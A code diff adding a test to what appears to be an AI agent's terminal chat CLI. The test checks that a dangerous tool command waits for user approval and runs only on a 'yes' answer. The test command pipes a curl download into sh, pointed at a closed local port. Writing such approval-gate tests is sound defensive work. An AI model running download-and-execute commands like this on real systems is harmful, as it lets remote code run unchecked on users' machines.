@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import json
 import io
 from pathlib import Path
 
@@ -64,3 +65,42 @@ def test_single_newlines_render_as_line_breaks() -> None:
 
     assert chat_markdown("a\nb\n\nc") == "a  \nb  \n\nc  "
     assert chat_markdown("```\nx = 1\n```") == "```\nx = 1\n```"
+
+
+@pytest.mark.parametrize(("answer", "ran"), [("n", False), ("y", True)])
+async def test_dangerous_command_is_asked_at_the_terminal(
+    answer: str, ran: bool, llm: FakeLLM, db_path: Path, tmp_path: Path
+) -> None:
+    """The chat pauses its spinner, asks, and runs the command only on yes."""
+    from cli.runtime import Runtime
+    from tests.fakes.llm import ToolCallSpec
+
+    marker = tmp_path / "ran.txt"
+    # Classified dangerous (a download piped into a shell) yet harmless: port 9 is closed.
+    command = f"touch {marker}; curl -s http://127.0.0.1:9/x | sh"
+    llm.script(
+        Turn(tool_calls=[ToolCallSpec("terminal", json.dumps({"command": command}))]),
+        Turn(text="done"),
+    )
+    config = make_config(llm, db_path, tools={"enabled": ["terminal"], "approval": "ask"})
+    holder: dict[str, TerminalChat] = {}
+
+    async def approve(description: str) -> bool:
+        return await holder["chat"].approve(description)
+
+    out = io.StringIO()
+    console = Console(file=out, width=100, force_terminal=False, color_system=None)
+    async with await Runtime.start(config, tmp_path, {}, approver=approve) as runtime:
+        runner = GatewayRunner(runtime)
+        holder["chat"] = chat = TerminalChat(runner, console=console)
+        with create_pipe_input() as pipe, create_app_session(input=pipe, output=DummyOutput()):
+            pipe.send_text("clean up\r")
+            pipe.send_text(f"{answer}\r")
+            pipe.send_text("/exit\r")
+            async with asyncio.timeout(WAIT_S):
+                await chat.run()
+        await runner.stop()
+    assert "The agent wants to run" in out.getvalue()
+    tool_result = [m for m in llm.requests[-1].json["messages"] if m["role"] == "user"][-1]
+    assert marker.exists() is ran
+    assert ("Refused" in json.dumps(tool_result)) is not ran
